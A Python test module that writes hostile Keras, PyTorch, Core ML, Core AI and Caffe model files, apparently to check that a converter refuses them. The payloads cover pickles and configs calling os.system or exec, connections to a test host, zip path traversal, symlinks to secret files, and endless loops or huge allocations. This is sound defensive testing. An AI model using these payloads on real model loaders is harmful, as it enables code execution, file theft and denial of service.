"""Write files of Keras, PyTorch, Core ML, Core AI and Caffe that ask their engines for more than to compute."""

from __future__ import annotations

import base64
import json
import marshal
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from converters import caffe_writer, torch_writer
from converters.asking_files import Place, Write, case
from converters.folder_models import save_package

# ---- Keras ---------------------------------------------------------------------------------------------------------


def keras_3(place: Place, entry: dict[str, Any], kernel: dict[str, Any] | None = None) -> Path:
    """Write a .keras file of an input, a dense layer and another layer."""
    from converters.keras_writer import write_keras

    def written(kind: str, name: str, **config: Any) -> dict[str, Any]:
        return {
            "module": "keras.layers",
            "class_name": kind,
            "config": {"name": name, **config},
            "registered_name": None,
        }

    dense = written("Dense", "dense", **{"units": 2, "use_bias": False, **(kernel or {})})
    layers = [written("InputLayer", "image", batch_shape=[None, 3]), dense, entry]
    model = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "model", "layers": layers},
        "registered_name": None,
    }
    path = place.folder / "model.keras"
    write_keras(path, model, {"layers/dense": [np.ones((3, 2), np.float32)]})
    return path


_PLAIN = {
    "module": "keras.layers",
    "class_name": "ReLU",
    "config": {"name": "last"},
    "registered_name": None,
}


def keras_layer(config: Callable[[Place], dict[str, Any]] | None = None, **changes: Any) -> Write:
    """Return a case with these changes of the last layer."""

    def write(place: Place) -> Path:
        own = {"config": {"name": "last", **config(place)}} if config else {}
        return keras_3(place, {**_PLAIN, **own, **changes})

    return write


def keras_setting(make: Callable[[Place], dict[str, Any]]) -> Write:
    return lambda place: keras_3(place, _PLAIN, make(place))


def of_module(module: str, name: str, config: Any) -> dict[str, Any]:
    """Return an object that Keras would make by calling a function of a module."""
    return {"module": module, "class_name": name, "config": config, "registered_name": name}


_ENDLESS = base64.b64encode(marshal.dumps((lambda x: [x for _ in iter(int, 1)]).__code__)).decode()
_LAMBDA = {"class_name": "__lambda__", "config": {"code": _ENDLESS, "defaults": None, "closure": None}}
for _deed, _how, _write in (
    ("loop", "by a lambda", keras_layer(lambda _: {"function": _LAMBDA}, class_name="Lambda")),
    ("start", "as a layer", keras_layer(module="os", class_name="system")),
    (
        "connect",
        "for a file",
        keras_layer(
            lambda place: {"fname": "x", "origin": f"http://{place.address}/x"},
            module="keras.src.utils.file_utils",
            class_name="get_file",
        ),
    ),
    (
        "read",
        "a SavedModel",
        keras_layer(lambda place: {"filepath": str(place.secret.parent)}, class_name="TFSMLayer"),
    ),
    (
        "read",
        "a table of words",
        keras_layer(lambda place: {"vocabulary": str(place.secret)}, class_name="StringLookup"),
    ),
    ("start", "a registered class", keras_layer(registered_name="evil>ReLU", module="evil")),
    ("allocate", "copies", keras_layer(lambda _: {"n": 1 << 40}, class_name="RepeatVector")),
    ("allocate", "weights", keras_setting(lambda _: {"units": 1 << 40})),
    (
        "start",
        "in an initialiser",
        keras_setting(lambda place: {"kernel_initializer": of_module("os", "system", place.command)}),
    ),
    (
        "start",
        "in a regulariser",
        keras_setting(lambda place: {"kernel_regularizer": of_module("os", "system", place.command)}),
    ),
    (
        "start",
        "in an activation",
        keras_setting(lambda place: {"activation": of_module("os", "system", place.command)}),
    ),
    (
        "start",
        "in a type",
        keras_setting(lambda place: {"dtype": of_module("os", "system", place.command)}),
    ),
    (
        "start",
        "Python in an activation",
        keras_setting(lambda _: {"activation": of_module("builtins", "function", "exec")}),
    ),
    (
        "write",
        "in an initialiser",
        keras_setting(
            lambda place: {"kernel_initializer": of_module("builtins", "open", [str(place.target), "w"])}
        ),
    ),
    (
        "wait",
        "in an activation",
        keras_setting(lambda _: {"activation": of_module("time", "sleep", 60)}),
    ),
):
    case("Keras", _deed, _how)(_write)


@case("Keras", "write", "beside its folder")
def _(place: Place) -> Path:
    path = keras_3(place, _PLAIN)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(f"../{place.target.parent.name}/{place.target.name}", "written")
        archive.writestr(f"assets/../../{place.target.name}", "written")
    return path


@case("Keras", "start", "when it is compiled")
def _(place: Place) -> Path:
    path = keras_3(place, _PLAIN)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    model = json.loads(parts["config.json"])
    model |= {
        "compile_config": {
            "optimizer": of_module("os", "system", place.command),
            "loss": of_module("os", "system", place.command),
        }
    }
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in (parts | {"config.json": json.dumps(model).encode()}).items():
            archive.writestr(name, content)
    return path


# ---- PyTorch -------------------------------------------------------------------------------------------------------


def _host(place: Place) -> tuple[str, int]:
    host, _, port = place.address.rpartition(":")
    return host, int(port)


#: Functions that unpickling would call, and their arguments.
_CALLS: dict[str, tuple[str, str, Callable[[Place], tuple[object, ...]]]] = {
    "write": ("builtins", "open", lambda place: (str(place.target), "w")),
    "read": ("builtins", "open", lambda place: (str(place.secret),)),
    "connect": ("socket", "create_connection", lambda place: (_host(place),)),
    "start": ("os", "system", lambda place: (place.command,)),
    "wait": ("time", "sleep", lambda _: (60,)),
    "allocate": ("builtins", "bytearray", lambda _: (1 << 40,)),
    "loop": ("builtins", "exec", lambda _: ("while True: pass",)),
}


def torch_file(suffix: str, form: str, deed: str) -> Write:
    module, name, arguments = _CALLS[deed]

    def write(place: Place) -> Path:
        storages = torch_writer.Storages()
        called = torch_writer.Call(torch_writer.Name(module, name), arguments(place))
        value = {"conv1.weight": storages.tensor(np.ones((4, 3, 1, 1), np.float32)), "x": called}
        path = place.folder / f"model{suffix}"
        path.write_bytes(torch_writer.FORMS[form](value, storages))
        return path

    return write


for _deed in _CALLS:
    case("PyTorch", _deed, "in an archive")(torch_file(".pth", "zip", _deed))
    case("PyTorch", _deed, "in an older file")(torch_file(".pt", "legacy", _deed))


# ---- Core ML -------------------------------------------------------------------------------------------------------


@case("Core ML", "read", "by ..")
def _(place: Place) -> Path:
    path = save_package(place.folder)
    manifest = path / "Manifest.json"
    described = json.loads(manifest.read_text())
    for entry in described["itemInfoEntries"].values():
        entry["path"] = f"../{place.above}"
    manifest.write_text(json.dumps(described))
    return path


@case("Core ML", "read", "weights by ..")
def _(place: Place) -> Path:
    from converters.coreml_writer import Program

    made = Program({"x": (1, 4)})
    made.constant("w", np.ones(4, np.float32).tobytes(), kind=11, stored=2, shape=(4,))
    stored = made.block.operations[-1].attributes[0].value.blobFileValue
    stored.fileName = f"@model_path/../../../{place.above}"
    made.add("add", x="%x", y="%w")
    return made.saved(place.folder / "model.mlpackage")


def of_app(class_name: Callable[[Place], str]) -> Write:
    """Return a case with a layer whose class is the app's."""

    def write(place: Place) -> Path:
        from converters.coreml_writer import one_layer, saved, settings

        message = one_layer("custom", settings(className=class_name(place)), [(1, 4, 5, 6)])
        return saved(message, place.folder / "model.mlmodel")

    return write


case("Core ML", "write", "in the app's layer")(of_app(lambda place: f"NSFileHandle {place.target}"))
case("Core ML", "start", "in the app's layer")(of_app(lambda place: f"NSTask {place.command}"))
case("Core ML", "wait", "in the app's layer")(of_app(lambda _: "NSThread sleepForTimeInterval:60"))


def other_model(number: int, content: Callable[[Place], dict[int, Any]]) -> Write:
    """Return a case whose model has a kind that names code or files, with these fields."""

    def write(place: Place) -> Path:
        from converters.coreml_writer import array, model

        from mpscnn.converters.opening.wire.encode import encode_fields

        described = model({"x": array((1, 4))}, {"y": array((1, 4))}).SerializeToString()
        path = place.folder / "model.mlmodel"
        path.write_bytes(described + encode_fields({number: encode_fields(content(place))}))
        return path

    return write


def _text(number: int, text: str) -> dict[int, Any]:
    from mpscnn.converters.opening.wire.encode import encode_fields

    return {number: encode_fields({1: encode_fields({1: text})})}


case("Core ML", "start", "in the app's model")(
    other_model(555, lambda place: {10: f"NSTask {place.command}"})
)
case("Core ML", "connect", "for a linked model")(
    other_model(556, lambda place: _text(1, f"http://{place.address}/model.mlmodel"))
)
case("Core ML", "read", "a linked model")(other_model(556, lambda place: _text(1, place.above)))


def program(kind: str, **operands: Any) -> Write:
    """Return a case with an operation of a program, whose operand is the input."""

    def write(place: Place) -> Path:
        from converters.coreml_writer import Program

        made = Program({"x": (1, 4)})
        made.add(kind, "z", **operands)
        made.add("add", x="%x", y="%z")
        return made.saved(place.folder / "model.mlpackage")

    return write


case("Core ML", "allocate", "a filled tensor")(program("fill", shape=[1 << 20, 1 << 20], value=np.float32(1)))
case("Core ML", "loop", "without end")(program("while_loop", loop_vars="%x"))


# ---- Core AI -------------------------------------------------------------------------------------------------------


_TYPE = "tensor<1x4xf32>"
_ON_A_GPU = _TYPE[:-1] + ", #coreaix.hw_constraints<MTLBuffer, alignments: [1x1x1], interleave: [1x1]>>"


def core_ai(body: Callable[[Place], str]) -> Write:
    """Return a case whose program has these operations, which compute %y of %x. Apple's package writes it."""

    def write(place: Place) -> Path:
        ai = pytest.importorskip("coreai.authoring", reason="coreai-core writes the file")
        from coreai._compiler.ir import Module

        made = ai.Module.create()
        text = f"""
            coreai.graph @main(%x: {_TYPE} {{coreai.name = "x"}}) -> {_TYPE} attributes {{__coreai_pure__}} {{
            {body(place)}
            coreai.output %y : {_TYPE} }}"""
        with made._mlir_module.context:
            made._mlir_module = Module.parse(text)
        path = place.folder / "model.aimodel"
        ai.AIProgram(made).save_asset(path)
        return path

    return write


def _kernel(code: str) -> str:
    """Return a call of a shader with this code."""
    source = json.dumps(f"[[kernel]] void effect(device float *y [[buffer(0)]]) {{ {code} }}")
    return f"""
        %one = coreai.constant dense<1> : tensor<3xui32>
        %shape = coreai.constant dense<[1, 4]> : tensor<2xui32>
        %given = "coreaix.copy_with_constraints"(%x) : ({_TYPE}) -> {_ON_A_GPU}
        %made = "coreai.metal4_kernel"(%given, %one, %one, %shape) <{{
            kernel_name = "effect", kernel_source = {source}, operandSegmentSizes = array<i32: 1, 1, 1, 1>
        }}> : ({_ON_A_GPU}, tensor<3xui32>, tensor<3xui32>, tensor<2xui32>) -> {_ON_A_GPU}
        %y = "coreaix.copy_discarding_constraints"(%made) : ({_ON_A_GPU}) -> {_TYPE}"""


_LOOP = f"""
    %y = coreai.while %x {{ ^bb0(%i: {_TYPE}):
        %on = coreai.constant dense<true> : tensor<i1>
        "coreai.condition"(%on, %i) : (tensor<i1>, {_TYPE}) -> ()
    }} do {{ ^bb1(%j: {_TYPE}):
        "coreai.yield"(%j) : ({_TYPE}) -> ()
    }} : ({_TYPE}) -> ({_TYPE})"""
_LARGE = "tensor<1048576x4194304xf32>"
_COPIES = f"""
    %often = coreai.constant dense<1048576> : tensor<2xui32>
    %all = "coreai.tile"(%x, %often) : ({_TYPE}, tensor<2xui32>) -> {_LARGE}
    %from = coreai.constant dense<0> : tensor<2xsi32>
    %to = coreai.constant dense<[1, 4]> : tensor<2xsi32>
    %by = coreai.constant dense<1> : tensor<2xsi32>
    %y = "coreai.slice"(%all, %from, %to, %by) :
        ({_LARGE}, tensor<2xsi32>, tensor<2xsi32>, tensor<2xsi32>) -> {_TYPE}"""
for _deed, _how, _body in (
    ("loop", "without end", lambda _: _LOOP),
    ("wait", "in a shader", lambda _: _kernel("while (y[0] == 0.0f) {}")),
    ("write", "in a shader", lambda place: _kernel(f"// {place.target}")),
    ("start", "in a shader", lambda place: _kernel(f"// {place.command}")),
    ("connect", "in a shader", lambda place: _kernel(f"// http://{place.address}")),
    ("allocate", "copies", lambda _: _COPIES),
):
    case("Core AI", _deed, _how)(core_ai(_body))


@case("Core AI", "read", "by a link")
def _(place: Place) -> Path:
    folder = place.folder / "model.aimodel"
    folder.mkdir()
    (folder / "main.mlirb").symlink_to(place.secret)
    return folder


@case("Core AI", "write", "beside its folder")
def _(place: Place) -> Path:
    path = place.folder / "model.aimodel.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model.aimodel/main.mlirb", b"ML\xefR")
        archive.writestr(f"../{place.target.parent.name}/{place.target.name}", "written")
    return path


@case("Core AI", "allocate", "in an archive")
def _(place: Place) -> Path:
    path = place.folder / "model.aimodel.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("model.aimodel/main.mlirb", bytes(100 << 20))
    return path


# ---- Caffe ---------------------------------------------------------------------------------------------------------


@case("Caffe", "start", "Python")
def _(place: Place) -> Path:
    text = caffe_writer.image(1, 3, 4, 4) + caffe_writer.layer(
        "Python", "y", "data", 'python_param { module: "os" layer: "system" }'
    )
    return caffe_writer.write(place.folder, text)[0]
